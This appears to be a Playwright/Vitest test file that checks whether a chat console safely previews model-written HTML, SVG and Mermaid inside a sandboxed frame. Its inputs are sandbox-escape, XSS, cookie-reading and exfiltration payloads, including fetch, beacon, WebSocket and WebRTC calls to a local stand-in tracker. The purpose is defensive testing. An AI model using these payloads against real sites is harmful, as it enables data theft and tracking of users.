import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

import { describe, expect, it } from 'vitest'

import { says, scriptedModel, step } from '../support/scripted-model.ts'
import { consoleBrowser, openConsole, sendMessage } from './console.ts'

const FENCE = '```'
const END = 'The end.'
const block = (language: string, code: string): string => `${FENCE}${language}\n${code}\n${FENCE}`

/** Ways out of a frame. None of them may reach the tracker, run in the page or read its data. */
const escapes = (tracker: string): string =>
  `<h1>Shown</h1>
<img src="${tracker}/img"><link rel="stylesheet" href="${tracker}/css"><script src="${tracker}/js"></script>
<link rel="prefetch" href="${tracker}/prefetch"><iframe src="${tracker}/frame"></iframe>
<object data="${tracker}/object"></object>
<video src="${tracker}/video"></video>
<form action="${tracker}/form" id="form"><input name="a"></form>
<style>@import url(${tracker}/import);
@font-face { font-family: f; src: url(${tracker}/font) } h1 { font-family: f }</style>
<script>
  const tries = [
    () => parent.document.title = 'owned', () => top.executed = 1, () => { top.location = '${tracker}/top' },
    () => localStorage.getItem('x'), () => document.cookie, () => fetch('${tracker}/fetch'), () => fetch('/v1/me'),
    () => navigator.sendBeacon('${tracker}/beacon'), () => new WebSocket('${tracker.replace('http', 'ws')}/socket'),
    () => new EventSource('${tracker}/events'), () => open('${tracker}/open'), () => form.submit(),
    () => new Worker('data:text/javascript,fetch("${tracker}/worker")'), () => import('${tracker}/module'),
  ]
  let done = 0
  for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}) } catch {} finally { done++ }
  document.querySelector('h1').textContent = 'Ran ' + done
  document.querySelector('h1').onclick = () => { location = '${tracker}/location' }
</script>`

/** Another server, which remembers what it is asked for. */
async function openTracker() {
  const requests: (string | undefined)[] = []
  const server = createServer(({ url }, response) => {
    requests.push(url)
    response.end()
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, requests, [Symbol.asyncDispose]: async () => void server.close() }
}

/** Scripts that connect by WebRTC, to a server for addresses. Each is without quotation marks that end an attribute. */
const connect = (port: number, scope = 'globalThis'): string =>
  `(async () => { const peer = new ${scope}.RTCPeerConnection({ iceServers: [{ urls: \`stun:127.0.0.1:${port}\` }] });
  peer.createDataChannel(\`x\`); await peer.setLocalDescription(await peer.createOffer()) })().catch(() => {})`

/** Ways to WebRTC. Those of a frame have a script that the page around cannot change. */
const WAYS_TO_WEBRTC: readonly (readonly [string, (port: number) => string])[] = [
  ['the page', (port) => `<script>${connect(port)}</script>`],
  ['the older name', (port) => `<script>${connect(port).replace('RTCPeer', 'webkitRTCPeer')}</script>`],
  [
    'the same name, made again',
    (port) => `<script>
      try { delete globalThis.RTCPeerConnection } catch {}
      document.open(); document.write('<p>again</p>'); document.close();
      ${connect(port)}</script>`,
  ],
  [
    'an empty frame',
    (port) => `<script>const frame = document.documentElement.appendChild(document.createElement('iframe'));
      ${connect(port, 'frame.contentWindow')}</script>`,
  ],
  ['a frame with a text', (port) => `<iframe srcdoc="<script>${connect(port)}</script>"></iframe>`],
  ['a frame with a script', (port) => `<iframe src="javascript:${connect(port)}"></iframe>`],
  [
    'a frame in a shadow tree',
    (port) =>
      `<div><template shadowrootmode="closed">
        <iframe srcdoc="<script>${connect(port)}</script>"></iframe></template></div>`,
  ],
  [
    'a page that a script has made',
    (port) => `<script>location = 'javascript:' + encodeURIComponent(JSON.stringify(
      '<script>' + ${JSON.stringify(connect(port))} + '</scr' + 'ipt>'))</script>`,
  ],
]

/** Listens for packets. */
async function openListener() {
  const socket = createSocket('udp4')
  let count = 0
  socket.on('message', () => (count += 1))
  await once(socket.bind(0, '127.0.0.1'), 'listening')
  return { port: socket.address().port, count: () => count, [Symbol.dispose]: () => void socket.close() }
}

describe('what a model has written, shown in the console', () => {
  const browser = consoleBrowser()
  const openWith = (...blocks: readonly string[]) =>
    openConsole({ models: scriptedModel([step(says([...blocks, END].join('\n\n')))]).models })
  it('shows HTML and SVG on demand, in a frame from which nothing gets out', async () => {
    await using tracker = await openTracker()
    const html = escapes(tracker.url)
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>try { top.executed = 1 } catch {}</script><circle r="9"/></svg>`
    await using server = await openWith(block('html', html), block('svg', svg), block('js', 'f()'))
    await using chat = await browser.open(server.url)
    const { page } = chat
    await sendMessage(page, 'Write')
    await page.getByText(END).waitFor()
    expect(await page.locator('iframe').count()).toBe(0)
    expect(await page.getByRole('button', { name: 'Preview' }).count()).toBe(2)

    await page.getByRole('button', { name: 'Preview' }).last().click()
    await page.frameLocator('iframe.sandbox').last().locator('circle').waitFor()
    await page.getByRole('button', { name: 'Preview' }).first().click()
    await page.frameLocator('iframe.sandbox').first().getByText('Ran 14').waitFor()
    expect(await page.evaluate('globalThis.executed')).toBeUndefined()
    expect(await page.title()).not.toBe('owned')
    expect(page.context().pages()).toHaveLength(1)
    expect(tracker.requests).toEqual([])
    expect(page.url()).toContain('/console/threads/')

    // It is not led to another server either.
    await page.frameLocator('iframe.sandbox').first().getByText('Ran 14').click()
    await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true)
    expect(tracker.requests).toEqual([])

    await page.getByRole('button', { name: 'Code' }).first().click()
    await page.getByText('const tries').waitFor()
  })

  it.each(WAYS_TO_WEBRTC)('sends no packet by WebRTC from %s', async (_way, html) => {
    using listener = await openListener()
    await using server = await openWith(block('html', html(listener.port)))
    await using chat = await browser.open(server.url)
    const { page, context } = chat
    await sendMessage(page, 'Write')
    await page.getByText(END).waitFor()
    await page.getByRole('button', { name: 'Preview' }).click()
    // Chromium may end the process of a frame that tries it.
    await page
      .frameLocator('iframe.sandbox')
      .locator(':root')
      .waitFor({ state: 'attached' })
      .catch(() => {})

    // A page that may connect does so later, and its packets arrive: those of the frame would have come before.
    const other = await context.newPage()
    await other.goto(server.url)
    using later = await openListener()
    await other.evaluate(connect(later.port))
    await expect.poll(later.count, { timeout: 10_000 }).toBeGreaterThan(0)
    expect(listener.count()).toBe(0)
  })

  it('draws diagrams of Mermaid as pictures, and says why one cannot be drawn', async () => {
    const good =
      'graph TD\n  A[Start <b>x</b>] --> B{"<img src=x onerror=alert(1)>"}\n  click A "javascript:alert(2)"'
    await using server = await openWith(
      block('mermaid', good),
      block('mermaid', 'graph TD\n  A[[[ --> '),
      block('mermaid', 'sequenceDiagram\n  Alice->>Bob: Hello'),
    )
    await using chat = await browser.open(server.url)
    const { page } = chat
    let dialogs = 0
    page.on('dialog', (dialog) => {
      dialogs += 1
      void dialog.dismiss()
    })
    await sendMessage(page, 'Write')
    await page.getByText(END).waitFor()
    await page.locator('.diagram img').nth(1).waitFor({ timeout: 30_000 })
    await page.getByText('This diagram cannot be drawn').waitFor()

    expect(await page.locator('.code-failure').innerText()).toContain('Parse error on line 2')
    expect(await page.locator('pre code').innerText()).toContain('A[[[ -->')
    const widths = await page
      .locator('.diagram img')
      .evaluateAll((all) => all.map((each) => (each as unknown as { naturalWidth: number }).naturalWidth))
    expect(widths.every((width) => width > 50)).toBe(true)
    expect(await page.locator('.diagram img').first().getAttribute('alt')).toBe(good)
    expect(dialogs).toBe(0)

    await page.getByRole('button', { name: 'Code' }).first().click()
    await page.getByText('A[Start <b>x</b>]').waitFor()
  })

  it('loads neither Mermaid nor a frame without a diagram', async () => {
    await using server = await openWith(block('js', 'f()'))
    await using chat = await browser.open('about:blank')
    const { page } = chat
    const paths: string[] = []
    page.on('request', (request) => paths.push(new URL(request.url()).pathname))
    await page.goto(server.url)
    await sendMessage(page, 'Write')
    await page.getByText(END).waitFor()

    expect(paths.filter((path) => /mermaid|diagram|sandbox|katex/.test(path))).toEqual([])
  })
})
